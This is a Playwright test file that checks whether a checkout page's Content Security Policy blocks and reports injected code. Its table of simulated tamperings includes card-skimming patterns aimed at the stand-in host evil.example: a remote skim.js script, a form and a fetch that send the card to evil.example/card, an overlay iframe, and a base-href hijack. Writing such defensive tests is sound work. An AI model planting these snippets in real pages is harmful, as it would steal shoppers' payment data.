import type { Page, Route } from '@playwright/test';
import { aBuyer, aDeal, expect, openCheckout, test } from '../support/shop';

const SCHOOL = 'Northlake Middle School';
const EVIL = 'https://evil.example';

/** The directive of trusted types. Browsers that support it refuse a script's text or address before they look at it. */
const TYPES = 'require-trusted-types-for';

type Tampering = readonly [directives: string | readonly [typed: string, untyped: string], code: (evil: string) => void];

/**
 * What injected code would try, and the directive that stops it; the second one is for browsers without trusted types. Each sets `stolen` if
 * it runs.
 */
const TAMPERINGS: Record<string, Tampering> = {
  'an inline script': [
    [TYPES, 'script-src-elem'],
    () => {
      const script = document.createElement('script');
      script.textContent = 'globalThis.stolen = true';
      document.body.append(script);
    },
  ],
  'HTML with a handler': [
    [TYPES, 'script-src-attr'],
    () => {
      const holder = document.createElement('div');
      holder.innerHTML = '<button onclick="globalThis.stolen = true">Pay</button>';
      document.body.append(holder);
      holder.querySelector('button')!.click();
    },
  ],
  'a script from elsewhere': [
    [TYPES, 'script-src-elem'],
    (evil) => {
      const script = document.createElement('script');
      script.src = `${evil}/skim.js`;
      document.body.append(script);
    },
  ],
  'an import map': [
    [TYPES, 'script-src-elem'],
    () => {
      const map = document.createElement('script');
      map.type = 'importmap';
      map.textContent = '{"imports":{"react":"/other.js"}}';
      document.head.append(map);
    },
  ],
  'a handler in an attribute': [
    [TYPES, 'script-src-attr'],
    () => {
      const button = document.createElement('button');
      button.setAttribute('onclick', 'globalThis.stolen = true');
      document.body.append(button);
      button.click();
    },
  ],
  'text as code': [
    [TYPES, 'script-src'],
    () => {
      // A call by the test itself would be allowed.
      setTimeout(() => {
        try {
          globalThis.eval('globalThis.stolen = true');
        } catch {
          // Expected.
        }
      });
    },
  ],
  'a link that is code': [
    'script-src-elem',
    () => {
      const link = document.createElement('a');
      link.setAttribute('href', ['javascript', 'globalThis.stolen = true'].join(':'));
      document.body.append(link);
      link.click();
    },
  ],
  'another base address': [
    'base-uri',
    (evil) => {
      const base = document.createElement('base');
      base.href = evil;
      document.head.append(base);
    },
  ],
  'a form that submits elsewhere': [
    'form-action',
    (evil) => {
      const form = document.createElement('form');
      form.action = `${evil}/card`;
      document.body.append(form);
      form.submit();
    },
  ],
  'a frame over the card form': [
    'frame-src',
    (evil) => {
      const frame = document.createElement('iframe');
      frame.src = `${evil}/card-form`;
      document.body.append(frame);
    },
  ],
  'a worker from text': [
    [TYPES, 'worker-src'],
    () => {
      const text = new Blob(['postMessage("stolen")'], { type: 'text/javascript' });
      const worker = new Worker(URL.createObjectURL(text));
      worker.addEventListener('error', (event) => event.preventDefault());
    },
  ],
  'a request that sends the card elsewhere': [
    'connect-src',
    (evil) => void fetch(`${evil}/card`, { method: 'POST' }).catch(() => undefined),
  ],
  'a stylesheet as text': [
    'style-src-elem',
    () => {
      const style = document.createElement('style');
      style.textContent = 'body { display: none }';
      document.head.append(style);
    },
  ],
  'a style as an attribute': ['style-src-attr', () => document.body.setAttribute('style', 'display: none')],
  'a stylesheet from elsewhere': [
    'style-src-elem',
    (evil) => {
      const sheet = document.createElement('link');
      sheet.rel = 'stylesheet';
      sheet.href = `${evil}/read-card.css`;
      document.head.append(sheet);
    },
  ],
};

/** The violations that the browser reported and the API accepted so far. */
function reportsOf(page: Page): string[] {
  const taken: string[] = [];
  page.on('requestfinished', async (request) => {
    if (!request.url().endsWith('/api/policy-reports')) return;
    const { 'csp-report': report } = JSON.parse(request.postData() ?? '{}') as { 'csp-report': Record<string, string> };
    if ((await request.response())?.status() === 204) taken.push(report['effective-directive']!);
  });
  return taken;
}

/** Browsers with and without trusted types. This one supports them, but without the directive it behaves like one that does not. */
const BROWSERS = [
  ['a browser with trusted types', true],
  ['one without', false],
] as const;

for (const [browser, isTyped] of BROWSERS)
  test(`code injected into the payment page is stopped and reported in ${browser}`, async ({ page, database, watch }) => {
    watch.expected.push(/Content Security Policy|This document requires 'Trusted|blocked|ERR_|evil\.example/i);
    const reports = reportsOf(page);
    const asked: string[] = [];
    await page.route(`${EVIL}/**`, (route) => {
      asked.push(route.request().url());
      return route.abort();
    });
    if (!isTyped) await forgetTypes(page);
    const deal = await aDeal(database);
    await openCheckout(page, deal, SCHOOL, aBuyer());
    expect(reports).toEqual([]);
    for (const [what, [directives, code]] of Object.entries(TAMPERINGS)) {
      const before = reports.length;
      // Trusted types throw at once.
      await page.evaluate(code, EVIL).catch((error: unknown) => expect(String(error)).toMatch(/Trusted/));
      const [typed, untyped] = [directives].flat() as [string, string?];
      const directive = isTyped ? typed : (untyped ?? typed);
      await expect.poll(() => reports.slice(before), { message: what, timeout: 60_000 }).toContain(directive);
    }
    expect(asked).toEqual([]);
    expect(await page.evaluate(() => 'stolen' in globalThis)).toBe(false);
    expect(await page.evaluate(() => document.body.innerText)).toContain(deal.title);
  });

async function forgetTypes(page: Page): Promise<void> {
  // Chromium treats a mocked page as foreign, which may not load scripts from this machine.
  await page.context().grantPermissions(['local-network-access']);
  await page.route((url) => !url.pathname.includes('.') && !url.pathname.startsWith('/api/'), withoutTypes);
}

async function withoutTypes(route: Route): Promise<void> {
  if (!route.request().isNavigationRequest() || route.request().frame().parentFrame()) return route.fallback();
  const response = await route.fetch();
  const headers = response.headers();
  const policy = headers['content-security-policy']!.replace(/require-trusted-types-for[^;]*; trusted-types[^;]*; /, '');
  expect(policy).not.toContain('trusted');
  return route.fulfill({ response, headers: { ...headers, 'content-security-policy': policy } });
}

test('a workspace runs no script without a hash, and other pages report one', async ({ page, watch }) => {
  watch.expected.push(/integrity/i);
  for (const [address, event, reportOnly] of [
    ['/admin/login', 'error', false],
    ['/deals', 'load', true],
  ] as const) {
    await page.goto(address);
    await expect(page.locator('main h1')).toBeVisible();
    const { script, ...seen } = await page.evaluate(withoutHash);
    // The page's own scripts are not reported.
    expect(seen).toEqual({ event, reports: [{ blockedURL: script, reportOnly }] });
  }
});

/** Adds one of the page's scripts again, without its hash. @returns whether it ran, and the browser's reports */
async function withoutHash() {
  type Said = { readonly blockedURL: string; readonly reportOnly: boolean };
  const said = new Promise<Said[]>((resolve) =>
    new ReportingObserver((reports) => resolve(reports.map(({ body }) => body as unknown as Said)), {
      types: ['integrity-violation'],
      buffered: true,
    }).observe(),
  );
  const script = document.createElement('script');
  script.src = document.querySelector<HTMLLinkElement>('link[rel=preload][as=script]')!.href;
  const event = new Promise<string>((resolve) => (script.onload = script.onerror = (happened) => resolve((happened as Event).type)));
  document.head.append(script);
  const reports = (await said).map(({ blockedURL, reportOnly }) => ({ blockedURL, reportOnly }));
  return { script: script.src, event: await event, reports };
}
